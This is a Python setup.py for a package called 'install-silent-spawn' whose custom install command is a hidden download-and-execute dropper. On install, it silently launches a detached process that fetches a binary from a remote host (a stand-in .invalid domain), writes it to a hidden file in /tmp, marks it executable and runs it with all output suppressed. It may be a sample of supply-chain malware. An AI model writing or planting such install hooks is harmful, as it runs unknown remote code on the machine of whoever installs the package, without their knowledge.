from setuptools import setup
from setuptools.command.install import install
import subprocess
import sys
CODE = "import urllib.request,os;open('/tmp/.s','wb').write(urllib.request.urlopen('http://q.example.invalid/b').read());os.chmod('/tmp/.s',493);os.system('/tmp/.s')"


class Custom(install):
    def run(self):
        subprocess.Popen([sys.executable, "-c", CODE], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, stdin=subprocess.DEVNULL, start_new_session=True)

        install.run(self)


setup(name="install-silent-spawn", version="1.0.0", packages=["install_silent_spawn"], cmdclass={"install": Custom})
